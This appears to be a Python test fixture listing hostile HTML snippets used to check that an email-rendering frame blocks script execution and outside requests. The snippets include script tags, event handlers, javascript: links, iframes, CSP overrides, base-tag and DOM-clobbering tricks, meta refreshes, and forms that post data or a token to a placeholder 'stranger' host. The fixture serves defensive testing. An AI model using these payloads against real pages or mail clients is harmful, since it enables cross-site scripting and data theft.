"""Pieces of hostile HTML, written here: each tries to run RAN, to reach STRANGER, or to escape.

What runs calls `alert`, which a test listens for; what reaches a stranger is counted by its server.
"""

RAN = "alert(1)"

SCRIPTS = (
    "<script>{ran}</script>",
    "<script src='{stranger}/script.js'></script>",
    "<script src='data:text/javascript,{ran}'></script>",
    "<script type=module>{ran}</script>",
    "<script type=module src='{stranger}/module.js'></script>",
    "<script nomodule>{ran}</script>",
    "<ScRiPt>{ran}</sCrIpT >",
    "<script nonce='x'>{ran}</script>",
    '<script type=importmap>{{"imports": {{"x": "{stranger}/map.js"}}}}</script>',
    '<script type=speculationrules>{{"prefetch": [{{"urls": ["{stranger}/guess"]}}]}}</script>',
    "<noscript><p title='</noscript><script>{ran}</script>'></noscript>",
    "<svg><script>{ran}</script></svg>",
    "<svg><script href='data:text/javascript,{ran}' /></svg>",
    "<math><mtext><script>{ran}</script></mtext></math>",
    "<div><template shadowrootmode=open><script>{ran}</script></template></div>",
    "<!--><script>{ran}</script>-->",
    "<style><!--</style><script>{ran}</script>-->",
    "<textarea></textarea><script>{ran}</script>",
)

HANDLERS = (
    "<img src='{stranger}/picture-missing.png' onerror='{ran}'>",
    "<img src=x onerror={ran}>",
    "<svg onload={ran}></svg>",
    "<svg><animate onbegin={ran} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to={ran}></svg>",
    "<details open ontoggle={ran}><summary>x</summary></details>",
    "<input autofocus onfocus={ran}>",
    "<select autofocus onfocus={ran}></select>",
    "<video autoplay onloadstart={ran} src='{stranger}/film.mp4'></video>",
    "<video><source onerror={ran} src='{stranger}/film.mp4'></video>",
    "<audio src='{stranger}/sound.mp3' onerror={ran}></audio>",
    "<body onload={ran} onpageshow={ran} onresize={ran}>",
    "<marquee onstart={ran}>x</marquee>",
    "<style onload={ran}></style>",
    "<p style='animation: x 1s' onanimationstart={ran}>x</p><style>@keyframes x {{}}</style>",
    "<p onclick={ran} id='item-handler'>x</p>",
)

LINKS = (
    "<a href='javascript:{ran}'>x</a>",
    "<a href=' &#14;java&#10;script:{ran}'>x</a>",
    "<a href='JaVaScRiPt:{ran}' target=_self>x</a>",
    "<a href='data:text/html,<script>{ran}</script>' target=_self>x</a>",
    "<a href='vbscript:{ran}'>x</a>",
    "<svg><a href='javascript:{ran}'><text y=20>x</text></a></svg>",
    "<math href='javascript:{ran}'>x</math>",
    "<a href='{stranger}/away' target=_top>x</a>",
    "<a href='{stranger}/away' target=_parent>x</a>",
    "<a href='{stranger}/away' target=_self>x</a>",
    "<a href='{stranger}/opened' target=named rel=opener>x</a>",
    "<a href='{stranger}/opened' ping='{stranger}/ping'>x</a>",
    "<a href='{stranger}/saved' download>x</a>",
    "<a href='/'>x</a>",
    "<a href='../../edits'>x</a>",
    "<map name=m><area href='javascript:{ran}' shape=default></map>",
)

LOADS = (
    "<iframe src='{stranger}/frame'></iframe>",
    "<iframe src='javascript:{ran}'></iframe>",
    "<iframe srcdoc='<script>{ran}</script>'></iframe>",
    "<iframe src='data:text/html,<script>{ran}</script>'></iframe>",
    "<iframe src='/'></iframe>",
    "<object data='{stranger}/object'></object>",
    "<object data='data:text/html,<script>{ran}</script>'></object>",
    "<embed src='{stranger}/embed'>",
    "<embed src='javascript:{ran}'>",
    "<frameset onload={ran}><frame src='{stranger}/frame'></frameset>",
    "<link rel=stylesheet href='{stranger}/style.css'>",
    "<link rel=preload as=script href='{stranger}/preload.js'>",
    "<link rel=modulepreload href='{stranger}/preload.mjs'>",
    # Browsers grant a prefetch whatever they grant pictures.
    "<link rel=prefetch href='{stranger}/picture-fetched'>",
    "<link rel=manifest href='{stranger}/manifest'>",
    "<style>@import '{stranger}/import.css';</style>",
    "<style>@font-face {{ font-family: x; src: url({stranger}/font) }}</style>"
    "<p style='font-family: x'>x",
    "<video src='{stranger}/film.mp4' autoplay><track src='{stranger}/track.vtt' default></video>",
    "<svg><use href='{stranger}/use.svg#x'></use></svg>",
)

ESCAPES = (
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href='{stranger}/base/'><img src='picture-based.png'>",
    "<base target=_top><a href='{stranger}/away'>x</a>",
    "<form action='{stranger}/form' method=post><input name=x><button>x</button></form>",
    "<form action='javascript:{ran}'><button>x</button></form>",
    "<form id=f></form><button form=f formaction='{stranger}/form' formmethod=post>x</button>",
    "<form><button formaction='javascript:{ran}'>x</button></form>",
    "<input type=image form=f formaction='javascript:{ran}' src='{stranger}/picture-b.png'>",
    "<form action='{desk}/edits' method=post><input name=token><button>x</button></form>",
    "<a id=parent></a><a id=desk></a><form id=scrollX></form>",
    "<p id='item-one<script>{ran}</script>'>x</p><p id='item-&quot; onclick={ran}'>x</p>",
    "<div id='item-{secret}'>x</div>",
    "<div hx-get='{stranger}/htmx' hx-trigger=load>x</div>",
)

LEAVING = (
    "<meta http-equiv=refresh content='0;url={stranger}/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:{ran}'>",
    "<meta http-equiv=refresh content='0;url=/'>",
)
"""What leads the frame elsewhere: it ends empty, as the desk's policy has no other site there."""

HIDING = (
    "<form name=currentScript data-desk='*'></form>",
    "<img name=currentScript><img name=querySelectorAll><img name=documentElement>",
    "<!-- </body> -->",
    "<plaintext>",
    "</body></html><script>{ran}</script>",
)
"""What keeps our own script from measuring, which costs the mail its rings and nothing else."""

PIECES = (*SCRIPTS, *HANDLERS, *LINKS, *LOADS, *ESCAPES)


def fill(piece: str, *, stranger: str, desk: str) -> str:
    """`piece` with the addresses of a stranger's server and of the desk."""
    secret = "words of the mail, not an id " * 20
    return piece.format(ran=RAN, stranger=stranger, desk=desk, secret=secret)
